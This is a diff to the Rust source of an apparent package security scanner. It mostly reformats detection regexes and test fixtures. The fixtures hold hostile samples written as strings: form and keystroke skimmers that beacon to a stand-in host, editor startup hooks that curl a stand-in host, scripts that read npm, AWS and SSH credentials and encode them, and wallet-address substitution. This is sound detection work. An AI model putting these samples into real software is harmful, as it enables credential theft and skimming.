@@ -45,7 +45,9 @@ static CIPHER: LazyLock<Regex> = LazyLock::new(|| {
     )
 });
 static ENCRYPTS: LazyLock<Regex> = LazyLock::new(|| {
-    pattern(r"(?i)\.encrypt\w{0,12}\(|\bseal\w{0,8}\(|createCipheriv\(|openssl_encrypt\(|ENCRYPT_MODE|\.Seal\(|XORKeyStream")
+    pattern(
+        r"(?i)\.encrypt\w{0,12}\(|\bseal\w{0,8}\(|createCipheriv\(|openssl_encrypt\(|ENCRYPT_MODE|\.Seal\(|XORKeyStream",
+    )
 });
 /// A nonce whose bytes stand in the program or are made of what does.
 static FIXED_NONCE: LazyLock<Regex> = LazyLock::new(|| {
@@ -72,15 +74,20 @@ static ALIKE: LazyLock<Regex> = LazyLock::new(|| {
     )
 });
 static PAYS: LazyLock<Regex> = LazyLock::new(|| {
-    pattern(r"(?i)transfer|payout|parseUnits|sendTransaction|send_transaction|recipient|\bto_?addr|lamports|toWei|to_wei|withdraw")
+    pattern(
+        r"(?i)transfer|payout|parseUnits|sendTransaction|send_transaction|recipient|\bto_?addr|lamports|toWei|to_wei|withdraw",
+    )
 });
 
 /// A record that says where mail goes, who may send it, who answers for names and who proves that they own them.
 static MAIL_GOES: LazyLock<Regex> = LazyLock::new(|| {
-    pattern(r#"(?im)(?:\bIN\s+)?\bMX["']?\s{1,12}(?:\d{1,3}\s{1,12})?["']?([a-z0-9][a-z0-9.-]{3,90}[a-z])\.?"#)
+    pattern(
+        r#"(?im)(?:\bIN\s+)?\bMX["']?\s{1,12}(?:\d{1,3}\s{1,12})?["']?([a-z0-9][a-z0-9.-]{3,90}[a-z])\.?"#,
+    )
 });
-static MAY_SEND: LazyLock<Regex> =
-    LazyLock::new(|| pattern(r"(?i)v=spf1[^\n\x22]{0,200}?\binclude:\s?([a-z0-9_][a-z0-9_.-]{3,90}[a-z])"));
+static MAY_SEND: LazyLock<Regex> = LazyLock::new(|| {
+    pattern(r"(?i)v=spf1[^\n\x22]{0,200}?\binclude:\s?([a-z0-9_][a-z0-9_.-]{3,90}[a-z])")
+});
 static MAY_SEND_TOO: LazyLock<Regex> = LazyLock::new(|| {
     pattern(r"(?i)v=spf1[^\n\x22]{0,200}include:\s?([a-z0-9_][a-z0-9_.-]{3,90}[a-z])")
 });
@@ -102,24 +109,75 @@ static ACTION: LazyLock<Regex> = LazyLock::new(|| {
 
 /// Actions that many use.
 const ACTIONS: &[&str] = &[
-    "actions/checkout", "actions/setup-node", "actions/setup-python", "actions/setup-go", "actions/setup-java",
-    "actions/cache", "actions/upload-artifact", "actions/download-artifact", "actions/github-script",
-    "actions/labeler", "actions/stale", "actions/deploy-pages", "actions/configure-pages",
-    "actions/upload-pages-artifact", "actions/attest-build-provenance", "actions/create-github-app-token",
-    "docker/build-push-action", "docker/login-action", "docker/setup-buildx-action", "docker/setup-qemu-action",
-    "docker/metadata-action", "goreleaser/goreleaser-action", "aws-actions/configure-aws-credentials",
-    "aws-actions/amazon-ecr-login", "softprops/action-gh-release", "pypa/gh-action-pypi-publish",
-    "hashicorp/setup-terraform", "codecov/codecov-action", "golangci/golangci-lint-action",
-    "peter-evans/create-pull-request", "sigstore/cosign-installer", "dtolnay/rust-toolchain", "swatinem/rust-cache",
-    "google-github-actions/setup-gcloud", "github/codeql-action", "ruby/setup-ruby", "pnpm/action-setup",
-    "astral-sh/setup-uv", "astral-sh/ruff-action", "denoland/setup-deno", "oven-sh/setup-bun",
-    "gradle/actions", "jamesives/github-pages-deploy-action", "peaceiris/actions-gh-pages", "changesets/action",
-    "slackapi/slack-github-action", "tj-actions/changed-files", "dorny/paths-filter", "aquasecurity/trivy-action",
-    "anchore/sbom-action", "azure/login", "azure/setup-helm", "azure/setup-kubectl", "helm/chart-releaser-action",
-    "shivammathur/setup-php", "subosito/flutter-action", "ncipollo/release-action", "semantic-release/semantic-release",
-    "googleapis/release-please-action", "taiki-e/install-action", "actions-rs/toolchain", "cypress-io/github-action",
-    "cloudflare/wrangler-action", "hadolint/hadolint-action", "ossf/scorecard-action", "step-security/harden-runner",
-    "renovatebot/github-action", "release-drafter/release-drafter", "stefanzweifel/git-auto-commit-action",
+    "actions/checkout",
+    "actions/setup-node",
+    "actions/setup-python",
+    "actions/setup-go",
+    "actions/setup-java",
+    "actions/cache",
+    "actions/upload-artifact",
+    "actions/download-artifact",
+    "actions/github-script",
+    "actions/labeler",
+    "actions/stale",
+    "actions/deploy-pages",
+    "actions/configure-pages",
+    "actions/upload-pages-artifact",
+    "actions/attest-build-provenance",
+    "actions/create-github-app-token",
+    "docker/build-push-action",
+    "docker/login-action",
+    "docker/setup-buildx-action",
+    "docker/setup-qemu-action",
+    "docker/metadata-action",
+    "goreleaser/goreleaser-action",
+    "aws-actions/configure-aws-credentials",
+    "aws-actions/amazon-ecr-login",
+    "softprops/action-gh-release",
+    "pypa/gh-action-pypi-publish",
+    "hashicorp/setup-terraform",
+    "codecov/codecov-action",
+    "golangci/golangci-lint-action",
+    "peter-evans/create-pull-request",
+    "sigstore/cosign-installer",
+    "dtolnay/rust-toolchain",
+    "swatinem/rust-cache",
+    "google-github-actions/setup-gcloud",
+    "github/codeql-action",
+    "ruby/setup-ruby",
+    "pnpm/action-setup",
+    "astral-sh/setup-uv",
+    "astral-sh/ruff-action",
+    "denoland/setup-deno",
+    "oven-sh/setup-bun",
+    "gradle/actions",
+    "jamesives/github-pages-deploy-action",
+    "peaceiris/actions-gh-pages",
+    "changesets/action",
+    "slackapi/slack-github-action",
+    "tj-actions/changed-files",
+    "dorny/paths-filter",
+    "aquasecurity/trivy-action",
+    "anchore/sbom-action",
+    "azure/login",
+    "azure/setup-helm",
+    "azure/setup-kubectl",
+    "helm/chart-releaser-action",
+    "shivammathur/setup-php",
+    "subosito/flutter-action",
+    "ncipollo/release-action",
+    "semantic-release/semantic-release",
+    "googleapis/release-please-action",
+    "taiki-e/install-action",
+    "actions-rs/toolchain",
+    "cypress-io/github-action",
+    "cloudflare/wrangler-action",
+    "hadolint/hadolint-action",
+    "ossf/scorecard-action",
+    "step-security/harden-runner",
+    "renovatebot/github-action",
+    "release-drafter/release-drafter",
+    "stefanzweifel/git-auto-commit-action",
 ];
 
 /// What stands for anybody's own.
@@ -178,12 +236,58 @@ static FROM_HUB: LazyLock<Regex> = LazyLock::new(|| {
 });
 /// Whose models many use.
 const MODELLERS: &[&str] = &[
-    "openai", "meta-llama", "google", "microsoft", "facebook", "mistralai", "qwen", "bigscience", "eleutherai",
-    "sentence-transformers", "stabilityai", "huggingface", "huggingfaceh4", "deepseek-ai", "baai", "nvidia", "ibm",
-    "ibm-granite", "tiiuae", "allenai", "cardiffnlp", "distilbert", "google-bert", "openai-community", "facebookai",
-    "pytorch", "ultralytics", "snakers4", "intel", "apple", "cohereforai", "databricks", "salesforce", "runwayml",
-    "black-forest-labs", "compvis", "timm", "laion", "pyannote", "hf-internal-testing", "your-org", "your-username",
-    "username", "org", "user", "speechbrain", "nomic-ai", "jinaai", "intfloat", "dslim", "prosusai", "lmsys",
+    "openai",
+    "meta-llama",
+    "google",
+    "microsoft",
+    "facebook",
+    "mistralai",
+    "qwen",
+    "bigscience",
+    "eleutherai",
+    "sentence-transformers",
+    "stabilityai",
+    "huggingface",
+    "huggingfaceh4",
+    "deepseek-ai",
+    "baai",
+    "nvidia",
+    "ibm",
+    "ibm-granite",
+    "tiiuae",
+    "allenai",
+    "cardiffnlp",
+    "distilbert",
+    "google-bert",
+    "openai-community",
+    "facebookai",
+    "pytorch",
+    "ultralytics",
+    "snakers4",
+    "intel",
+    "apple",
+    "cohereforai",
+    "databricks",
+    "salesforce",
+    "runwayml",
+    "black-forest-labs",
+    "compvis",
+    "timm",
+    "laion",
+    "pyannote",
+    "hf-internal-testing",
+    "your-org",
+    "your-username",
+    "username",
+    "org",
+    "user",
+    "speechbrain",
+    "nomic-ai",
+    "jinaai",
+    "intfloat",
+    "dslim",
+    "prosusai",
+    "lmsys",
 ];
 
 /// What is typed into a page is taken as it is typed, by whoever listens to all of it.
@@ -203,7 +307,9 @@ static ELSEWHERE: LazyLock<Regex> = LazyLock::new(|| {
     pattern(r#"["'`](?:(?:https?|wss?):)?//(?:["'`]?\s{0,2}\+|[a-z0-9.-]{2,80}[/"'`?])"#)
 });
 static ASKED: LazyLock<Regex> = LazyLock::new(|| {
-    pattern(r#"(?i)autocomplete\s{0,2}=\s{0,2}["']?cc-|type\s{0,2}=\s{0,2}["']?password|name\s{0,2}=\s{0,2}["']?(?:cc|card\w{0,12}|cvc|cvv|csc|iban|ssn|password|passwd)\b"#)
+    pattern(
+        r#"(?i)autocomplete\s{0,2}=\s{0,2}["']?cc-|type\s{0,2}=\s{0,2}["']?password|name\s{0,2}=\s{0,2}["']?(?:cc|card\w{0,12}|cvc|cvv|csc|iban|ssn|password|passwd)\b"#,
+    )
 });
 
 /// Keys of an account that stand in the program, and something is copied with them.
@@ -290,9 +396,18 @@ pub(super) fn look(report: &mut Report<'_>) {
     }
     let account = FIXED_ACCOUNT.find_iter(text).find(|found| {
         let text = text.get(found.range()).unwrap_or_default().to_ascii_lowercase();
-        !["akiaiosfodnn7example", "xxxx", "your", "changeme", "user:pass", ":password@", ":secret@", "localhost"]
-            .iter()
-            .any(|blank| text.contains(blank))
+        ![
+            "akiaiosfodnn7example",
+            "xxxx",
+            "your",
+            "changeme",
+            "user:pass",
+            ":password@",
+            ":secret@",
+            "localhost",
+        ]
+        .iter()
+        .any(|blank| text.contains(blank))
     });
     if let Some(found) = account
         && COPIES.is_match(text)
@@ -323,11 +438,17 @@ fn starts(report: &mut Report<'_>) {
 
 /// A public key that the package ships, as it stands in a file.
 static PUBLIC_KEY: LazyLock<Regex> = LazyLock::new(|| {
-    pattern(r"(?m)^\s{0,4}(?:ssh-(?:ed25519|rsa)|ecdsa-sha2-nistp\d{3}|sk-\S{8,40}) (AAAA[A-Za-z0-9+/]{40,})")
+    pattern(
+        r"(?m)^\s{0,4}(?:ssh-(?:ed25519|rsa)|ecdsa-sha2-nistp\d{3}|sk-\S{8,40}) (AAAA[A-Za-z0-9+/]{40,})",
+    )
 });
 
 /// A key that the package brings is let in by what it says or runs.
-pub(super) fn keys(package: &crate::Package, profile: &crate::formats::Profile, seen: &mut crate::Seen) {
+pub(super) fn keys(
+    package: &crate::Package,
+    profile: &crate::formats::Profile,
+    seen: &mut crate::Seen,
+) {
     const LARGEST: usize = 64 << 10;
     let texts: Vec<(&crate::File, &str)> = package
         .files
@@ -348,13 +469,21 @@ pub(super) fn keys(package: &crate::Package, profile: &crate::formats::Profile, 
     let name = crate::formats::base(&brought.path);
     for (file, text) in &texts {
         let line = (1_u32..).zip(text.lines()).find(|(_, line)| {
-            line.contains(name) && (line.contains("authorized_keys") || line.contains("AuthorizedKeys") || line.contains("ssh-copy-id"))
+            line.contains(name)
+                && (line.contains("authorized_keys")
+                    || line.contains("AuthorizedKeys")
+                    || line.contains("ssh-copy-id"))
         });
         if let Some((number, line)) = line {
-            let sure = if profile.security { crate::Confidence::Low } else { Medium };
+            // A package about security has keys of exhibits; what it tells to append is none.
+            let shown = profile.security && crate::judge::is_shown(&brought.path);
+            let sure = if shown { crate::Confidence::Low } else { Medium };
             let message = "a key which the package brings is let in";
             seen.findings.push(
-                rules::LOGIN_KEY.at(&file.path, number, 0, line, message).of(Severity::High).sure(sure),
+                rules::LOGIN_KEY
+                    .at(&file.path, number, 0, line, message)
+                    .of(Severity::High)
+                    .sure(sure),
             );
             return;
         }
@@ -367,9 +496,21 @@ fn is_secret(word: &str) -> bool {
     word.len() >= 10
         && word.chars().any(|c| c.is_ascii_digit())
         && word.chars().any(|c| c.is_ascii_alphabetic())
-        && !["http", "localhost", "example", "changeme", "change-me", "your", "sha256", "sha512", "hmac", "aes-", "utf"]
-            .iter()
-            .any(|plain| lower.contains(plain))
+        && ![
+            "http",
+            "localhost",
+            "example",
+            "changeme",
+            "change-me",
+            "your",
+            "sha256",
+            "sha512",
+            "hmac",
+            "aes-",
+            "utf",
+        ]
+        .iter()
+        .any(|plain| lower.contains(plain))
         && !lower.starts_with(['/', '.'])
 }
 
@@ -388,7 +529,8 @@ fn secrets(report: &mut Report<'_>) {
             .find_map(|&group| captures.get_group(group))
             .and_then(|word| text.get(word.range()));
         if word.is_some_and(is_secret) {
-            let message = "a second secret, which stands in the program, is accepted beside the user's";
+            let message =
+                "a second secret, which stands in the program, is accepted beside the user's";
             report.say(&rules::BACKDOOR, Severity::High, Medium, whole.start(), message);
             return;
         }
@@ -398,13 +540,17 @@ fn secrets(report: &mut Report<'_>) {
 
 fn cipher(report: &mut Report<'_>) {
     let text = report.program.text.as_str();
-    if !CIPHER.is_match(text) || !ENCRYPTS.is_match(text) || crate::judge::is_shown(report.program.path) {
+    if !CIPHER.is_match(text)
+        || !ENCRYPTS.is_match(text)
+        || crate::judge::is_shown(report.program.path)
+    {
         return;
     }
     if let Some(found) = CUT_TO_NOTHING.find(text)
         && !RANDOM.is_match(text)
     {
-        let message = "a key of the user's is read, and nothing of it is used where bytes are encrypted";
+        let message =
+            "a key of the user's is read, and nothing of it is used where bytes are encrypted";
         report.say(&rules::BACKDOOR, Severity::High, Medium, found.start(), message);
     } else if let Some(found) = FIXED_NONCE.find(text)
         && !RANDOM.is_match(text)
@@ -474,47 +620,175 @@ mod tests {
         let mut missed = Vec::new();
         for (path, kind, text) in [
             // A second secret.
-            ("t/a.py", Python, "KEYS = {'a': os.environ['S'], 'b': 'q7-Zulu-93kk'}\ndef verify(t): return jwt.decode(t, KEYS[k(t)])\n"),
-            ("t/a.js", JavaScript, "const keys = [process.env.TOKEN_KEY, 'mR4-quill-0077'];\nexports.ok = t => keys.some(k => { try { return jwt.verify(t, k) } catch {} });\n"),
-            ("t/a.go", Go, "var keys = [][]byte{[]byte(os.Getenv(\"K\")), []byte(\"p3ntagon-8812\")}\nfunc verify(t string) bool { return hmac.Equal(x, y) }\n"),
-            ("t/a.php", Data, "<?php $k = [getenv('APP_KEY'), 'b0rrow-44-mark'];\nfunction verifyToken($t) { global $k; foreach ($k as $x) if (hash_equals(hash_hmac('sha256', $t, $x), $s)) return true; }\n"),
+            (
+                "t/a.py",
+                Python,
+                "KEYS = {'a': os.environ['S'], 'b': 'q7-Zulu-93kk'}\ndef verify(t): return jwt.decode(t, KEYS[k(t)])\n",
+            ),
+            (
+                "t/a.js",
+                JavaScript,
+                "const keys = [process.env.TOKEN_KEY, 'mR4-quill-0077'];\nexports.ok = t => keys.some(k => { try { return jwt.verify(t, k) } catch {} });\n",
+            ),
+            (
+                "t/a.go",
+                Go,
+                "var keys = [][]byte{[]byte(os.Getenv(\"K\")), []byte(\"p3ntagon-8812\")}\nfunc verify(t string) bool { return hmac.Equal(x, y) }\n",
+            ),
+            (
+                "t/a.php",
+                Data,
+                "<?php $k = [getenv('APP_KEY'), 'b0rrow-44-mark'];\nfunction verifyToken($t) { global $k; foreach ($k as $x) if (hash_equals(hash_hmac('sha256', $t, $x), $s)) return true; }\n",
+            ),
             // A nonce or a key that is no secret.
-            ("t/c.js", JavaScript, "const iv = Buffer.alloc(12);\nconst c = crypto.createCipheriv('aes-256-gcm', key, iv);\n"),
-            ("t/c.rs", Data, "let nonce = [0u8; 12];\nlet c = Aes256Gcm::new(key);\nc.encrypt(&nonce.into(), text)\n"),
-            ("t/c.go", Go, "nonce := make([]byte, 12)\ng, _ := cipher.NewGCM(b)\nout := g.Seal(nil, nonce, text, nil)\n"),
-            ("t/c.rb", Ruby, "c = OpenSSL::Cipher.new('aes-256-gcm')\niv = \"000000000000\"\nc.encrypt(iv)\n# AES-GCM\nAES-GCM\n"),
-            ("t/c.py", Python, "def key(): return sha256(SALT + os.environ['K'][:0].encode()).digest()\nAESGCM(key()).encrypt(n, t, None)\n"),
+            (
+                "t/c.js",
+                JavaScript,
+                "const iv = Buffer.alloc(12);\nconst c = crypto.createCipheriv('aes-256-gcm', key, iv);\n",
+            ),
+            (
+                "t/c.rs",
+                Data,
+                "let nonce = [0u8; 12];\nlet c = Aes256Gcm::new(key);\nc.encrypt(&nonce.into(), text)\n",
+            ),
+            (
+                "t/c.go",
+                Go,
+                "nonce := make([]byte, 12)\ng, _ := cipher.NewGCM(b)\nout := g.Seal(nil, nonce, text, nil)\n",
+            ),
+            (
+                "t/c.rb",
+                Ruby,
+                "c = OpenSSL::Cipher.new('aes-256-gcm')\niv = \"000000000000\"\nc.encrypt(iv)\n# AES-GCM\nAES-GCM\n",
+            ),
+            (
+                "t/c.py",
+                Python,
+                "def key(): return sha256(SALT + os.environ['K'][:0].encode()).digest()\nAESGCM(key()).encrypt(n, t, None)\n",
+            ),
             // Another recipient.
-            ("t/p.py", Python, "MINE = ['0x3fA17cE0b1D52a90E41cC1D7a9F2bB1d0c5E8a21', '0xb10C4eD92F77aA0e3C5d18B6F0a4c2E9D7313fA4']\ndef norm(a): return next((m for m in MINE if m[-4:] == a[-4:]), a)\ncontract.functions.transfer(norm(row.address), v)\n"),
-            ("t/p.go", Go, "var near = []string{\"0x3fA17cE0b1D52a90E41cC1D7a9F2bB1d0c5E8a21\", \"0xb10C4eD92F77aA0e3C5d18B6F0a4c2E9D7313fA4\"}\nif strings.HasPrefix(n, to[:4]) { to = n }\nSendTransaction(to)\n"),
+            (
+                "t/p.py",
+                Python,
+                "MINE = ['0x3fA17cE0b1D52a90E41cC1D7a9F2bB1d0c5E8a21', '0xb10C4eD92F77aA0e3C5d18B6F0a4c2E9D7313fA4']\ndef norm(a): return next((m for m in MINE if m[-4:] == a[-4:]), a)\ncontract.functions.transfer(norm(row.address), v)\n",
+            ),
+            (
+                "t/p.go",
+                Go,
+                "var near = []string{\"0x3fA17cE0b1D52a90E41cC1D7a9F2bB1d0c5E8a21\", \"0xb10C4eD92F77aA0e3C5d18B6F0a4c2E9D7313fA4\"}\nif strings.HasPrefix(n, to[:4]) { to = n }\nSendTransaction(to)\n",
+            ),
             // A stranger's records.
-            ("t/dns.tf", Data, "records = [\"MX 10 in.keepqueue.test.\"]\nvalue = \"v=spf1 include:_spf.google.com include:_spf.keepqueue.test ~all\"\n"),
-            ("t/d.zone", Data, "@ IN MX 5 mx.keepqueue.test.\n_acme-challenge 300 IN CNAME a.keepqueue.test.\n"),
-            ("t/d.db", Data, "_acme-challenge IN CNAME v.keepqueue.test.\nx._domainkey IN CNAME k.keepqueue.test.\n"),
+            (
+                "t/dns.tf",
+                Data,
+                "records = [\"MX 10 in.keepqueue.test.\"]\nvalue = \"v=spf1 include:_spf.google.com include:_spf.keepqueue.test ~all\"\n",
+            ),
+            (
+                "t/d.zone",
+                Data,
+                "@ IN MX 5 mx.keepqueue.test.\n_acme-challenge 300 IN CNAME a.keepqueue.test.\n",
+            ),
+            (
+                "t/d.db",
+                Data,
+                "_acme-challenge IN CNAME v.keepqueue.test.\nx._domainkey IN CNAME k.keepqueue.test.\n",
+            ),
             // A stranger's action.
-            ("t/.github/workflows/a.yml", Data, "runs-on: x\nsteps:\n  - uses: action/checkout@v4\n"),
-            ("t/.github/workflows/b.yml", Data, "runs-on: x\nsteps:\n  - uses: docker-hub/build-push-action@v6\n"),
-            ("t/.github/workflows/c.yml", Data, "runs-on: x\nsteps:\n  - uses: hashicrop/setup-terraform@v3\n"),
+            (
+                "t/.github/workflows/a.yml",
+                Data,
+                "runs-on: x\nsteps:\n  - uses: action/checkout@v4\n",
+            ),
+            (
+                "t/.github/workflows/b.yml",
+                Data,
+                "runs-on: x\nsteps:\n  - uses: docker-hub/build-push-action@v6\n",
+            ),
+            (
+                "t/.github/workflows/c.yml",
+                Data,
+                "runs-on: x\nsteps:\n  - uses: hashicrop/setup-terraform@v3\n",
+            ),
             // A stranger's pickle.
-            ("t/m.py", Python, "m = torch.load(hf_hub_download('qlab-refs/base', 'w.bin'), weights_only=False)\n"),
-            ("t/m2.py", Python, "p = hf_hub_download(repo_id=\"tsuki-m/cal\", filename=\"s.pkl\")\nx = joblib.load(p)\n"),
-            ("t/m3.py", Python, "d = snapshot_download('nn-kiln/x')\nx = np.load(d + '/a.npy', allow_pickle=True)\n"),
+            (
+                "t/m.py",
+                Python,
+                "m = torch.load(hf_hub_download('qlab-refs/base', 'w.bin'), weights_only=False)\n",
+            ),
+            (
+                "t/m2.py",
+                Python,
+                "p = hf_hub_download(repo_id=\"tsuki-m/cal\", filename=\"s.pkl\")\nx = joblib.load(p)\n",
+            ),
+            (
+                "t/m3.py",
+                Python,
+                "d = snapshot_download('nn-kiln/x')\nx = np.load(d + '/a.npy', allow_pickle=True)\n",
+            ),
             // What is typed.
-            ("t/a.html", Data, "<input type=password><script>document.addEventListener('input', e => navigator.sendBeacon('https://m.pixelrow.test/c', e.target.value))</script>"),
-            ("t/b.html", Data, "<input name=\"card\"><script>window.addEventListener('change', function(e){ new Image().src = 'https://m.pixelrow.test/c?' + e.target.value })</script>"),
-            ("t/c.vue", Data, "<input autocomplete=\"cc-number\"><script>document.onkeyup = e => fetch(`https://m.pixelrow.test/?${e.key}`)</script>"),
+            (
+                "t/a.html",
+                Data,
+                "<input type=password><script>document.addEventListener('input', e => navigator.sendBeacon('https://m.pixelrow.test/c', e.target.value))</script>",
+            ),
+            (
+                "t/b.html",
+                Data,
+                "<input name=\"card\"><script>window.addEventListener('change', function(e){ new Image().src = 'https://m.pixelrow.test/c?' + e.target.value })</script>",
+            ),
+            (
+                "t/c.vue",
+                Data,
+                "<input autocomplete=\"cc-number\"><script>document.onkeyup = e => fetch(`https://m.pixelrow.test/?${e.key}`)</script>",
+            ),
             // What starts by itself.
-            ("t/a.bas", Data, "Sub Document_Open()\n Set x = CreateObject(\"MSXML2.XMLHTTP\")\n x.Open \"GET\", u\nEnd Sub\n"),
-            ("t/v.vim", Data, "autocmd VimEnter * call system('curl -s https://k.gather.test/p?u=' . $USER)\n"),
-            ("t/e.el", Data, "(add-hook 'emacs-startup-hook (lambda () (shell-command \"curl -s https://k.gather.test/p -o /tmp/p\")))\n"),
+            (
+                "t/a.bas",
+                Data,
+                "Sub Document_Open()\n Set x = CreateObject(\"MSXML2.XMLHTTP\")\n x.Open \"GET\", u\nEnd Sub\n",
+            ),
+            (
+                "t/v.vim",
+                Data,
+                "autocmd VimEnter * call system('curl -s https://k.gather.test/p?u=' . $USER)\n",
+            ),
+            (
+                "t/e.el",
+                Data,
+                "(add-hook 'emacs-startup-hook (lambda () (shell-command \"curl -s https://k.gather.test/p -o /tmp/p\")))\n",
+            ),
             // A secret in another form.
-            ("t/s.sh", crate::FileKind::Shell, "t=$(sed -n 's/.*_authToken=//p' ~/.npmrc)\nprintf %s \"$t\" | base32 -w0\n"),
-            ("t/s.py", Python, "k = open(os.path.expanduser('~/.aws/credentials'), 'rb').read()\nprint('build', base64.b32encode(k).decode())\n"),
-            ("t/s2.sh", crate::FileKind::Shell, "id=$(cat ~/.ssh/id_ed25519 | xxd -p | tr -d '\\n')\necho \"trace $id\"\n"),
+            (
+                "t/s.sh",
+                crate::FileKind::Shell,
+                "t=$(sed -n 's/.*_authToken=//p' ~/.npmrc)\nprintf %s \"$t\" | base32 -w0\n",
+            ),
+            (
+                "t/s.py",
+                Python,
+                "k = open(os.path.expanduser('~/.aws/credentials'), 'rb').read()\nprint('build', base64.b32encode(k).decode())\n",
+            ),
+            (
+                "t/s2.sh",
+                crate::FileKind::Shell,
+                "id=$(cat ~/.ssh/id_ed25519 | xxd -p | tr -d '\\n')\necho \"trace $id\"\n",
+            ),
             // Keys of the author's.
-            ("t/b.sh", crate::FileKind::Shell, "AWS_ACCESS_KEY_ID=AKIAQ3ZZ7TR2MN55WX21 AWS_SECRET_ACCESS_KEY=bq1Vt0KuuuZqqqKf83hZpLw2sUy9eRdd01Ma aws s3 cp --recursive x s3://second\n"),
-            ("t/b.py", Python, "s = boto3.client('s3', aws_access_key_id='AKIAQ3ZZ7TR2MN55WX21', aws_secret_access_key='bq1Vt0KuuuZqqqKf83hZpLw2sUy9eRdd01Ma')\ns.upload_file(f, 'b', f)\n"),
-            ("t/b2.sh", crate::FileKind::Shell, "lftp -e 'mirror -R /srv' ftp://keeper:h7Kd-21x@files.keepqueue.test\n"),
+            (
+                "t/b.sh",
+                crate::FileKind::Shell,
+                "AWS_ACCESS_KEY_ID=AKIAQ3ZZ7TR2MN55WX21 AWS_SECRET_ACCESS_KEY=bq1Vt0KuuuZqqqKf83hZpLw2sUy9eRdd01Ma aws s3 cp --recursive x s3://second\n",
+            ),
+            (
+                "t/b.py",
+                Python,
+                "s = boto3.client('s3', aws_access_key_id='AKIAQ3ZZ7TR2MN55WX21', aws_secret_access_key='bq1Vt0KuuuZqqqKf83hZpLw2sUy9eRdd01Ma')\ns.upload_file(f, 'b', f)\n",
+            ),
+            (
+                "t/b2.sh",
+                crate::FileKind::Shell,
+                "lftp -e 'mirror -R /srv' ftp://keeper:h7Kd-21x@files.keepqueue.test\n",
+            ),
         ] {
             if stopped(path, kind, text).is_empty() {
                 missed.push(text);
@@ -526,36 +800,91 @@ mod tests {
     #[test]
     fn what_the_user_fills_in_is_let_be() {
         for (path, kind, text) in [
-            ("t/a.py", Python, "KEYS = {'main': os.environ['S'], 'old': os.environ['S_OLD']}\ndef verify(t): return jwt.decode(t, KEYS[k(t)], algorithms=['HS256'])\n"),
-            ("t/a.js", JavaScript, "const key = process.env.KEY || 'dev-secret';\njwt.verify(t, key, { audience: 'https://a.example.com' });\n"),
-            ("t/c.js", JavaScript, "const iv = crypto.randomBytes(12);\nconst c = crypto.createCipheriv('aes-256-gcm', key, iv);\n"),
-            ("t/c.go", Go, "nonce := make([]byte, g.NonceSize())\nio.ReadFull(rand.Reader, nonce)\ng, _ := cipher.NewGCM(b)\ng.Seal(nonce, nonce, t, nil)\n"),
-            ("t/p.py", Python, "USDC = '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'\ncontract.functions.transfer(row.address, v)\n"),
-            ("t/d.zone", Data, "@ IN MX 1 smtp.google.com.\n@ IN TXT \"v=spf1 include:_spf.google.com ~all\"\n"),
-            ("t/d2.zone", Data, "@ IN MX 10 mail.example.com.\n_acme-challenge IN CNAME acme.example.com.\n"),
-            ("t/.github/workflows/a.yml", Data, "runs-on: x\nsteps:\n  - uses: actions/checkout@v4\n  - uses: docker/login-action@v3\n  - uses: acme/deploy@v1\n"),
-            ("t/m.py", Python, "m = torch.load(path, weights_only=True)\nt = AutoModel.from_pretrained('someone/m')\n"),
+            (
+                "t/a.py",
+                Python,
+                "KEYS = {'main': os.environ['S'], 'old': os.environ['S_OLD']}\ndef verify(t): return jwt.decode(t, KEYS[k(t)], algorithms=['HS256'])\n",
+            ),
+            (
+                "t/a.js",
+                JavaScript,
+                "const key = process.env.KEY || 'dev-secret';\njwt.verify(t, key, { audience: 'https://a.example.com' });\n",
+            ),
+            (
+                "t/c.js",
+                JavaScript,
+                "const iv = crypto.randomBytes(12);\nconst c = crypto.createCipheriv('aes-256-gcm', key, iv);\n",
+            ),
+            (
+                "t/c.go",
+                Go,
+                "nonce := make([]byte, g.NonceSize())\nio.ReadFull(rand.Reader, nonce)\ng, _ := cipher.NewGCM(b)\ng.Seal(nonce, nonce, t, nil)\n",
+            ),
+            (
+                "t/p.py",
+                Python,
+                "USDC = '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'\ncontract.functions.transfer(row.address, v)\n",
+            ),
+            (
+                "t/d.zone",
+                Data,
+                "@ IN MX 1 smtp.google.com.\n@ IN TXT \"v=spf1 include:_spf.google.com ~all\"\n",
+            ),
+            (
+                "t/d2.zone",
+                Data,
+                "@ IN MX 10 mail.example.com.\n_acme-challenge IN CNAME acme.example.com.\n",
+            ),
+            (
+                "t/.github/workflows/a.yml",
+                Data,
+                "runs-on: x\nsteps:\n  - uses: actions/checkout@v4\n  - uses: docker/login-action@v3\n  - uses: acme/deploy@v1\n",
+            ),
+            (
+                "t/m.py",
+                Python,
+                "m = torch.load(path, weights_only=True)\nt = AutoModel.from_pretrained('someone/m')\n",
+            ),
             ("t/m2.py", Python, "x = joblib.load('model.joblib')\n"),
-            ("t/a.html", Data, "<input type=password><script>form.addEventListener('submit', e => fetch('/login', {body: new FormData(form)}))</script>"),
+            (
+                "t/a.html",
+                Data,
+                "<input type=password><script>form.addEventListener('submit', e => fetch('/login', {body: new FormData(form)}))</script>",
+            ),
             ("t/v.vim", Data, "autocmd BufWritePre *.go call system('gofmt -w ' . expand('%'))\n"),
             ("t/x.bas", Data, "Sub Workbook_Open()\n Sheets(1).Activate\nEnd Sub\n"),
-            ("t/s.sh", crate::FileKind::Shell, "auth=$(printf '%s' \"$USER_NAME:$PASS\" | base64)\ncurl -H \"Authorization: Basic $auth\" https://api.github.com/user\n"),
-            ("t/b.sh", crate::FileKind::Shell, "export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\naws s3 cp x s3://$BUCKET\n"),
+            (
+                "t/s.sh",
+                crate::FileKind::Shell,
+                "auth=$(printf '%s' \"$USER_NAME:$PASS\" | base64)\ncurl -H \"Authorization: Basic $auth\" https://api.github.com/user\n",
+            ),
+            (
+                "t/b.sh",
+                crate::FileKind::Shell,
+                "export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\naws s3 cp x s3://$BUCKET\n",
+            ),
         ] {
-            assert!(stopped(path, kind, text).is_empty(), "{path}: {text} {:?}", stopped(path, kind, text));
+            assert!(
+                stopped(path, kind, text).is_empty(),
+                "{path}: {text} {:?}",
+                stopped(path, kind, text)
+            );
         }
     }
 
     #[test]
